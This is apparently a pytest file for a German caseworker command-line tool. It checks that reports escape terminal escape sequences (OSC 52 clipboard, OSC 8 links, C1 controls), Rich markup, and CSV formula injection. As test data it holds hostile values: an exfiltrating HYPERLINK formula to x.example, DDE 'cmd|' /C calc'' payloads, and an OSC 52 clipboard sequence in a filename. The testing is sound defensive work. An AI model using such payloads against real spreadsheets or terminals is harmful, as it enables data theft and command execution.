"""Nothing a case file holds can drive a terminal or a spreadsheet, and no report drops a word.

The corpus tests/data/hostile/daten/ holds readable cases whose data attacks the output: OSC 52
(clipboard), OSC 8 (disguised link), hidden text, C1 controls, spreadsheet formulas, Rich
markup and text wider than any terminal. Every command and format is run over it (SPEC §15,
§16); JSON is exempt from the control-character scan (it escapes them itself).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vier_phasen_cli.domain.datum import deutsch
from vier_phasen_cli.render.csvdatei import zelle
from vier_phasen_cli.render.tabelle import Spalte, tabelle, umbrechen, zellbreite

from .conftest import REPO, Aufruf

STICHTAG = ("--stichtag", "2026-12-01")
DATEN = REPO / "tests" / "data" / "hostile" / "daten"
STEUER = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
"""SPEC §16: C0 except tab and newline, DEL, C1 (ESC and CR included)."""


@pytest.fixture
def boese(demo: Path) -> Path:
    for datei in DATEN.glob("*.yaml"):
        shutil.copy(datei, demo / "cases" / datei.name)
    return demo


def _steuerfrei(text: str) -> None:
    treffer = STEUER.search(text)
    assert treffer is None, (
        f"Steuerzeichen {treffer.group()!r} in: {text[max(treffer.start() - 40, 0) : treffer.end() + 40]!r}"
    )


def test_korpus_vollstaendig() -> None:
    assert sorted(p.stem for p in DATEN.glob("*.yaml")) == [
        "H20-osc52",
        "H21-osc8-link",
        "H22-versteckter-text",
        "H23-c1-und-del",
        "H24-csv-formel",
        "H25-rich-markup",
        "H26-langer-text",
    ]


BEFEHLE = [
    ["faellig", *STICHTAG],
    ["faellig", *STICHTAG, "--format", "csv"],
    ["faellig", *STICHTAG, "--format", "markdown"],
    ["faellig", *STICHTAG, "--format", "ics"],
    ["faellig", *STICHTAG, "--je-fall", "--alle"],
    ["liste"],
    ["liste", "--format", "csv"],
    ["pruefen", *STICHTAG],
]


@pytest.mark.parametrize("befehl", BEFEHLE, ids=" ".join)
def test_berichte_geben_keine_steuerzeichen_aus(vp: Aufruf, boese: Path, befehl: list[str]) -> None:
    for farbe in ({}, {"FORCE_COLOR": "1"}):
        ergebnis = vp("--ablage", boese, *befehl, env={"COLUMNS": "100", **farbe})
        assert ergebnis.exit_code in (0, 1), ergebnis.stderr
        ohne_farbe = re.sub(r"\x1b\[[0-9;]*m", "", ergebnis.stdout)
        if farbe and befehl[-1] not in ("csv", "markdown", "ics"):
            assert "\x1b[" in ergebnis.stdout  # the tool's own colour codes …
        assert "\x1b]" not in ergebnis.stdout  # … are the only escape sequences
        _steuerfrei(ohne_farbe if farbe else ergebnis.stdout)
        _steuerfrei(ergebnis.stderr)


@pytest.mark.parametrize("befehl", [["faellig", *STICHTAG], ["liste"], ["zeige", "H20-osc52"]])
def test_steuerzeichen_bleiben_sichtbar(vp: Aufruf, boese: Path, befehl: list[str]) -> None:
    ergebnis = vp("--ablage", boese, *befehl, env={"COLUMNS": "250"})
    assert "Olga\\x1b]52;c;ZWNobyBnZWhhY2t0\\x07 Petrenko" in ergebnis.stdout


@pytest.mark.parametrize(
    "fall",
    ["H20-osc52", "H21-osc8-link", "H22-versteckter-text", "H23-c1-und-del", "H25-rich-markup"],
)
@pytest.mark.parametrize("format", ["text", "yaml"])
def test_zeige_gibt_keine_steuerzeichen_aus(
    vp: Aufruf, boese: Path, fall: str, format: str
) -> None:
    ergebnis = vp("--ablage", boese, "zeige", fall, "--format", format, env={"FORCE_COLOR": "1"})
    assert ergebnis.exit_code == 0, ergebnis.stderr
    assert "\x1b]" not in ergebnis.stdout and "\x9b" not in ergebnis.stdout
    _steuerfrei(re.sub(r"\x1b\[[0-9;]*m", "", ergebnis.stdout))


def test_rich_markup_im_namen_wird_weder_link_noch_farbe(vp: Aufruf, boese: Path) -> None:
    ergebnis = vp("--ablage", boese, "zeige", "H25-rich-markup", env={"FORCE_COLOR": "1"})
    assert "[link=http://x.example/]Klick[/link] [red]rot[/]" in ergebnis.stdout
    assert "\x1b]8;" not in ergebnis.stdout


def test_csv_zellen_sind_nie_formeln(vp: Aufruf, boese: Path) -> None:
    for befehl in (["faellig", *STICHTAG], ["liste"]):
        ergebnis = vp("--ablage", boese, *befehl, "--format", "csv")
        zeilen = list(csv.DictReader(io.StringIO(ergebnis.stdout.lstrip("\ufeff")), delimiter=";"))
        zeile = next(z for z in zeilen if z["fall"] == "H24-csv-formel")
        assert zeile["name"] == '\'=HYPERLINK("http://x.example/?"&A1,"Klick")'
        assert zeile["fachkraft"] == "'+cmd|' /C calc'!A0"
        for z in zeilen:
            for wert in z.values():
                assert not wert.startswith(("=", "+", "@", "\t", "\r")), wert
                assert not wert.startswith("-") or re.fullmatch(r"-\d+", wert), wert
    faellig = vp("--ablage", boese, "faellig", *STICHTAG, "--format", "csv").stdout
    zeilen = list(csv.DictReader(io.StringIO(faellig.lstrip("\ufeff")), delimiter=";"))
    assert "Zwischenziel: @SUMME(1+1)*cmd|' /C calc'!A0" in [z["text"] for z in zeilen]
    assert zeilen[0]["tage"] == "-18"  # a negative number stays a number


@pytest.mark.parametrize(
    ("wert", "zelle_text"),
    [
        ("=1+1", "'=1+1"),
        ("+49 911 1234", "'+49 911 1234"),
        ("-", "'-"),
        ("-3", "-3"),
        ("+3", "+3"),
        ("-2,5", "-2,5"),
        ("@foo", "'@foo"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\\x0d=1"),
        ("a=b", "a=b"),
        (-14, "-14"),
        (None, ""),
    ],
)
def test_csv_zelle(wert: object, zelle_text: str) -> None:
    assert zelle(wert) == zelle_text


def _zeichen(text: str) -> Counter[str]:
    """The characters of ``text`` without white space: wrapping and folding only move them."""
    return Counter("".join(text.split()))


@pytest.mark.parametrize("breite", ["40", "60", "80", "100", "132", "250"])
def test_faellig_verliert_bei_keiner_breite_ein_wort(vp: Aufruf, boese: Path, breite: str) -> None:
    from vier_phasen_cli.domain.steuerzeichen import sicher

    daten = json.loads(vp("--ablage", boese, "faellig", *STICHTAG, "--format", "json").stdout)
    tabelle_text = vp("--ablage", boese, "faellig", *STICHTAG, env={"COLUMNS": breite}).stdout
    erwartet: Counter[str] = Counter()
    for e in daten["eintraege"]:
        for feld in ("fall", "name", "text", "fundstelle"):
            erwartet += _zeichen(sicher(e[feld]))
    assert erwartet - _zeichen(tabelle_text) == Counter()
    # the long word is folded, not cut: its letters come in order
    wort = (
        "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichenherstellungsbetriebsverordnung"
    )
    assert wort * 2 in "".join(
        z.strip() for z in tabelle_text.splitlines() if "Donau" in z or z.startswith(" ")
    )
    # At every width Name and Fachkraft leave the row where they would be folded: a line
    # is too wide only where the fixed columns alone are (a hostile case ID of 20 letters).
    zu_breit = [z for z in tabelle_text.splitlines() if zellbreite(z) > int(breite)]
    assert all(re.fullmatch(r"\d\d\.\d\d\.\d{4}  .{12}  \S+", z) for z in zu_breit), zu_breit


def test_schmale_tabellen_tragen_namen_unter_der_zeile(vp: Aufruf, demo: Path) -> None:
    """A split tmux pane: the columns whose words would be folded follow their row, each
    after its title; no line is wider than the terminal."""
    faellig = vp("--ablage", demo, "faellig", *STICHTAG, env={"COLUMNS": "45"}).stdout
    zeilen = faellig.splitlines()
    assert zeilen[0].split() == ["Fällig", "Wann", "Fall"]
    i = zeilen.index("13.11.2026  vor 18 Tagen  911A100014")
    assert zeilen[i + 1 : i + 4] == [
        "    Name: Jürgen Vogel · Fachkraft: A. Wagner",
        "    Aktivität (Fachkraft): Maßnahme bei einem",
        "    Arbeitgeber vermitteln [3.3.1]",
    ]
    assert max(map(zellbreite, zeilen)) <= 45
    liste = vp("--ablage", demo, "liste", env={"COLUMNS": "50"}).stdout.splitlines()
    assert liste[0].split() == ["Fall", "SGB", "Fachkraft", "Phase", "Folgegespr."]
    assert liste[2:4] == [
        "911A100001  III  M. Schmidt   4      08.12.2026",
        "    Name: Sabine Krüger · Prognose: Marktnah",
    ]
    assert max(map(zellbreite, liste)) <= 50
    # wide enough, the columns stay (as at 80 columns, below)
    breit = vp("--ablage", demo, "liste", env={"COLUMNS": "80"}).stdout.splitlines()
    assert breit[0].split() == [
        "Fall", "Name", "SGB", "Fachkraft", "Phase", "Prognose", "Folgegespr."
    ]  # fmt: skip


def test_faellig_bei_80_spalten_liest_sich(vp: Aufruf, demo: Path) -> None:
    text = vp("--ablage", demo, "faellig", *STICHTAG, env={"COLUMNS": "80"}).stdout
    zeilen = text.splitlines()
    assert zeilen[0].split() == ["Fällig", "Wann", "Fall", "Name", "Fachkraft"]
    i = zeilen.index("30.11.2026  gestern       911A100006  Olga Petrenko   L. Hartmann")
    assert zeilen[i + 1] == "    Zwischenziel: Anmeldung zum Berufssprachkurs B2 [3.2]"
    assert all(len(z) <= 80 for z in zeilen)


def test_maschinenformate_tragen_den_ganzen_text(vp: Aufruf, boese: Path) -> None:
    lang = (DATEN / "H26-langer-text.yaml").read_text(encoding="utf-8")
    gesucht = lang.split("- text: ", 1)[1].split("\n", 1)[0]
    daten = json.loads(vp("--ablage", boese, "faellig", *STICHTAG, "--format", "json").stdout)
    texte = [e["text"] for e in daten["eintraege"] if e["fall"] == "H26-langer-text"]
    assert f"Zwischenziel: {gesucht}" in texte
    csv_text = vp("--ablage", boese, "faellig", *STICHTAG, "--format", "csv").stdout
    assert f"Zwischenziel: {gesucht}" in csv_text


def test_faellig_tabelle_meldet_kaputte_dateien_auf_stderr(
    vp: Aufruf, demo: Path, tmp_path: Path
) -> None:
    (demo / "cases" / "kaputt.yaml").write_text("format: 1\nid: kaputt\nkunde: [\n")
    ergebnis = vp("--ablage", demo, "faellig", *STICHTAG)
    assert ergebnis.exit_code == 2
    assert "kaputt" not in ergebnis.stdout
    assert ergebnis.stderr.startswith("Fehler: ")
    assert "cases/kaputt.yaml:4: Kein gültiges YAML: Syntaxfehler\n" in ergebnis.stderr
    ziel = tmp_path / "bericht.txt"
    mit_datei = vp("--ablage", demo, "faellig", *STICHTAG, "-o", ziel)
    assert mit_datei.exit_code == 2
    assert "kaputt" not in ziel.read_text(encoding="utf-8")
    assert "cases/kaputt.yaml:4" in mit_datei.stderr


def test_dateiname_mit_steuerzeichen_in_meldungen(vp: Aufruf, demo: Path) -> None:
    (demo / "cases" / "\x1b]52;c;QQ==\x07x.yaml").write_text("format: 1\nid: x\nkunde: [\n")
    for befehl in (["faellig"], ["liste"], ["pruefen"], ["faellig", "--format", "json"]):
        ergebnis = vp("--ablage", demo, *befehl, *(STICHTAG if befehl[0] != "liste" else ()))
        assert ergebnis.exit_code == 2
        _steuerfrei(ergebnis.stderr)
        # pruefen reports the file as a finding (DA001) on stdout, the others on stderr
        gemeldet = ergebnis.stdout if befehl[0] == "pruefen" else ergebnis.stderr
        assert "\\x1b]52;c;QQ==\\x07x.yaml" in gemeldet
        if "json" not in befehl:
            _steuerfrei(ergebnis.stdout)


def test_markdown_bericht_ohne_dienststelle(vp: Aufruf, demo: Path) -> None:
    (demo / "vier-phasen.toml").write_text("[faellig]\ntage = 14\n", encoding="utf-8")
    ergebnis = vp("--ablage", demo, "faellig", *STICHTAG, "--format", "markdown")
    assert ergebnis.exit_code == 0, ergebnis.stderr
    assert ergebnis.stdout.startswith("# Fristen zum 01.12.2026\n\n7 überfällig")


def test_markdown_bericht_nach_init(vp: Aufruf, tmp_path: Path) -> None:
    ablage = tmp_path / "neu"
    assert vp("init", ablage).exit_code == 0
    ergebnis = vp("--ablage", ablage, "faellig", *STICHTAG, "--format", "markdown")
    assert ergebnis.exit_code == 0, ergebnis.stderr


def test_jahr_vierstellig() -> None:
    from datetime import date

    assert deutsch(date(1, 1, 15)) == "15.01.0001"
    assert deutsch(date(9999, 12, 31)) == "31.12.9999"


# --- the table renderer itself --------------------------------------------------------------


@given(
    text=st.text(st.characters(codec="utf-8"), max_size=300),
    breite=st.integers(min_value=1, max_value=120),
)
def test_umbrechen_verliert_nichts_und_haelt_die_breite(text: str, breite: int) -> None:
    zeilen = umbrechen(text, breite)
    assert "".join("".join(zeilen).split()) == "".join(text.split())
    for zeile in zeilen:
        assert zellbreite(zeile) <= max(breite, 2)  # a wide letter alone may need two cells


ZELLE = st.text(st.characters(codec="utf-8"), max_size=60)


@settings(suppress_health_check=[HealthCheck.too_slow], max_examples=60)
@given(
    reihen=st.lists(st.tuples(ZELLE, ZELLE, ZELLE), min_size=1, max_size=8),
    breite=st.integers(min_value=20, max_value=200),
)
def test_tabelle_ist_sicher_und_vollstaendig(
    reihen: list[tuple[str, str, str]], breite: int
) -> None:
    spalten = [Spalte("Fall"), Spalte("Name", True, 6), Spalte("Was", True, 20, unterzeile=True)]
    text = "\n".join(tabelle(spalten, [(r, None) for r in reihen], breite))
    _steuerfrei(text.replace("\n", " "))
    from vier_phasen_cli.domain.steuerzeichen import sicher

    fall = max(zellbreite(" ".join(sicher(r[0]).split())) for r in reihen)
    if max(fall, 4) + 2 * len("  ") + 3 + 3 <= breite:  # the fixed column leaves room
        assert max(map(zellbreite, text.splitlines())) <= breite
    # Not a character of any cell is lost (wrapping and folding only move them).
    gesehen = Counter("".join(text.split()))
    erwartet = Counter("".join("".join(sicher(z).split()) for r in reihen for z in r))
    assert erwartet - gesehen == Counter()


def test_pruefen_im_terminal_umbrochen_sonst_eine_zeile(vp: Aufruf, demo: Path) -> None:
    from vier_phasen_cli.domain.befund import Befund
    from vier_phasen_cli.domain.fristen import Fallkopf
    from vier_phasen_cli.render.befunde import als_text

    meldung = "Für den Handlungsbedarf „Örtliche Mobilität“ ist keine Handlungsstrategie vereinbart"
    befund = Befund("X1", "cases/X1.yaml", 27, "ST001", "fehler", meldung, "3.3.1")
    kopf = {"cases/X1.yaml": Fallkopf("X1", "Erika\x1b[8m", "M. Schmidt", "SGB III", "aktiv")}
    ganz = list(als_text([befund], kopf))
    assert ganz == [
        "X1 · Erika\\x1b[8m · M. Schmidt",
        f"  cases/X1.yaml:27: ST001 fehler: {meldung}  [3.3.1]",
    ]
    umbrochen = list(als_text([befund], kopf, breite=60))
    assert max(map(len, umbrochen)) <= 60 and len(umbrochen) > 2
    assert umbrochen[2].startswith(" " * len("  cases/X1.yaml:27: "))
    assert " ".join(" ".join(umbrochen[1:]).split()) == " ".join(ganz[1].split())
    farbig = list(als_text([befund], kopf, farbe=True, breite=60))
    assert "\x1b[1;31mST001\x1b[0m \x1b[1;31mfehler\x1b[0m:" in farbig[1]
    assert farbig[-1].endswith("\x1b[2m[3.3.1]\x1b[0m")


def test_liste_mit_pseudonym_nennt_es_einmal(vp: Aufruf, demo: Path) -> None:
    ergebnis = vp("--ablage", demo, "liste", "--pseudonym", env={"COLUMNS": "80"})
    zeilen = ergebnis.stdout.splitlines()
    assert zeilen[0].split() == ["Fall", "SGB", "Fachkraft", "Phase", "Prognose", "Folgegespr."]
    assert zeilen[2].split()[0].startswith("Person-") and zeilen[2].count("Person-") == 1
    assert max(map(len, zeilen)) <= 80


# --- file names that are no UTF-8, huge numbers, huge words (found by trying as an attacker) ---


@pytest.mark.parametrize("name", [b"M\xfcller.yaml", b"\x9b2J\x9d0;T\x07.yaml"])
def test_dateiname_ohne_utf8_haelt_keinen_bericht_auf(vp: Aufruf, demo: Path, name: bytes) -> None:
    fall = (demo / "cases" / "911A100002.yaml").read_bytes()
    with open(bytes(demo / "cases") + b"/" + name, "wb") as f:
        f.write(fall)
    gezeigt = name.decode("utf-8", "surrogateescape")
    from vier_phasen_cli.domain.steuerzeichen import sicher

    escaped = sicher(gezeigt)
    assert "\\x9b" in escaped or "\\xfc" in escaped
    for befehl in (
        ["liste"],
        ["liste", "--format", "json"],
        ["faellig", *STICHTAG],
        ["faellig", *STICHTAG, "--format", "json"],
        ["faellig", *STICHTAG, "--format", "markdown"],
        ["pruefen", *STICHTAG],
        ["pruefen", *STICHTAG, "--format", "json"],
        ["liste", "--pseudonym", "--format", "csv"],
    ):
        for cache in ([], ["--ohne-cache"]):
            ergebnis = vp("--ablage", demo, *befehl, *cache)
            assert ergebnis.exit_code == 2, (befehl, ergebnis.stderr)
            assert "Interner Fehler" not in ergebnis.stderr
            for strom in (ergebnis.stdout, ergebnis.stderr):
                strom.encode("utf-8")  # no surrogate, i.e. no raw byte, reaches a stream
                _steuerfrei(strom)
            if "json" in befehl:
                json.loads(ergebnis.stdout)  # whole, valid JSON
            if befehl[0] != "pruefen":
                assert "Dateiname ist nicht in UTF-8 kodiert" in ergebnis.stderr
                assert escaped in ergebnis.stderr
            if befehl == ["liste"]:
                assert ergebnis.stdout.count("\n911A1000") == 14  # every other case is listed


def test_riesige_zahl_in_einer_falldatei(vp: Aufruf, demo: Path) -> None:
    datei = demo / "cases" / "911A100004.yaml"
    text = datei.read_text(encoding="utf-8")
    text = text.replace("  mitglieder: 3\n", "  mitglieder: 99999999999999999999999999\n")
    text += "eigenes_feld: 99999999999999999999999999999999\n"
    datei.write_text(text, encoding="utf-8")
    for befehl in (["zeige", "911A100004", "--format", "json"], ["liste", "--format", "json"]):
        ergebnis = vp("--ablage", demo, *befehl)
        assert ergebnis.exit_code == 2, ergebnis.stderr
        assert "bedarfsgemeinschaft.mitglieder: Wert zu groß" in ergebnis.stderr
        assert "Interner Fehler" not in ergebnis.stderr


def test_json_schreibt_auch_grosse_zahlen() -> None:
    from datetime import date

    from vier_phasen_cli.render.jsondatei import json_stuecke, json_text

    daten = {"x": 10**30, "d": date(2026, 12, 1), "n": "Jürgen"}
    assert json.loads(json_text(daten)) == {"x": 10**30, "d": "2026-12-01", "n": "Jürgen"}
    text = "".join(json_stuecke("e", [daten], {"f": []}))
    assert json.loads(text)["e"][0]["x"] == 10**30


def test_ein_riesiges_wort_wird_in_einem_durchgang_gefaltet() -> None:
    wort = "A" * 1_000_003
    zeilen = umbrechen(wort, 40)
    assert len(zeilen) == 25_001 and "".join(zeilen) == wort
    breit = "漢字" * 50_001
    gefaltet = umbrechen(breit, 7)
    assert "".join(gefaltet) == breit and max(map(zellbreite, gefaltet)) <= 7


def test_falten_zaehlt_zellen_nicht_buchstaben() -> None:
    """A wide letter and a zero-width one add up to as many cells as letters: still folded by
    cells (found by hypothesis)."""
    zeilen = umbrechen("0⼀\x1b", 2)
    assert "".join(zeilen) == "0⼀\x1b"
    assert all(zellbreite(z) <= 2 for z in zeilen)


def test_umbrechen_nach_dem_bindestrich_eines_zusammengesetzten_worts() -> None:
    assert umbrechen("Erika Beispiel-Öztürk", 14) == ["Erika", "Beispiel-", "Öztürk"]
    assert umbrechen("Beispiel-Öztürk", 20) == ["Beispiel-Öztürk"]  # fits: stays whole
    # a sign or a number is no compound: "-3" and "SGB-2" stay whole
    assert umbrechen("minus -3 und SGB-2", 5) == ["minus", "-3", "und", "SGB-2"]


def test_liste_bei_80_spalten_bricht_kein_wort(vp: Aufruf, demo: Path) -> None:
    """The caseworker's view of ``liste``: with a hyphenated name and the longest Prognose
    ("Integriert, aber hilfebedürftig") no word is cut, when the words' widths fit at all."""
    neu = vp("--ablage", demo, "neu", "4711A000500", "--name", "Erika Beispiel-Öztürk",
             "--rechtskreis", "SGB II", "--fachkraft", "M. Schmidt")  # fmt: skip
    assert neu.exit_code == 0, neu.stderr
    ergebnis = vp("--ablage", demo, "liste", env={"COLUMNS": "80"})
    assert ergebnis.exit_code == 0
    zeilen = ergebnis.stdout.splitlines()
    assert max(map(len, zeilen)) <= 80
    woerter = set(ergebnis.stdout.split())
    for ganz in ("Beispiel-", "Öztürk", "hilfebedürftig", "Hartmann", "marktnah"):
        assert ganz in woerter, ganz


def test_umbrechen_trennt_nicht_was_zusammengehoert() -> None:
    """Reports and findings wrap like the help: "SGB II" and "§ 15a" stay on one line."""
    text = "ob ein Schlichtungsverfahren nach § 15a SGB II verlangt wurde"
    for breite in range(12, len(text)):
        for zeile in umbrechen(text, breite):
            assert not zeile.endswith(("§", "SGB")), (breite, zeile)
            assert not zeile.startswith(("15a", "II")), (breite, zeile)
